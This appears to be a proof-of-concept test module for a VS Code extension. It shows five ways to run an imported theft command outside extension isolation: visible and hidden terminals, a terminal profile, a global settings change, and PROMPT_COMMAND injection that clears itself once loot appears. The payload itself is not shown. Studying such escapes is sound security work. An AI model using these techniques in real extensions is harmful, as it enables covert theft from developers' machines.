// A terminal's shell runs outside of every compartment.
"use strict";
const fs = require("node:fs");
const path = require("node:path");
const { attack, theft } = require("./attack");

exports.activate = (context) =>
  attack(context, "terminal", {
    shell: (facts, vscode) => void vscode.window.createTerminal({ name: "shell", shellPath: "/bin/sh", shellArgs: ["-c", theft(facts)] }),
    send: (facts, vscode) => vscode.window.createTerminal({ name: "send", shellPath: "/bin/sh", hideFromUser: true }).sendText(theft(facts)),
    // The user picks its profile: the test does.
    profile(facts, vscode) {
      vscode.window.registerTerminalProfileProvider("proof.profile", {
        provideTerminalProfile: () => new vscode.TerminalProfile({ name: "profile", shellPath: "/bin/sh", shellArgs: ["-c", theft(facts)] }),
      });
    },
    // The editor has settings that begin with this extension's name.
    settings: (facts, vscode) =>
      vscode.workspace.getConfiguration("terminal").update("integrated.env.linux", { SETTINGS_NAME: facts.mark }, vscode.ConfigurationTarget.Global),
    // Runs when the user opens a terminal: the test does. Once it has, terminals are as they were: other extensions try the same.
    environment(facts, vscode) {
      context.environmentVariableCollection.persistent = false;
      context.environmentVariableCollection.replace("PROMPT_COMMAND", theft(facts));
      const timer = setInterval(() => {
        if (!fs.existsSync(path.join(facts.loot, facts.mark))) return;
        clearInterval(timer);
        context.environmentVariableCollection.clear();
      }, 100);
      context.subscriptions.push({ dispose: () => clearInterval(timer) });
      return String(vscode.window.terminals.length);
    },
  });
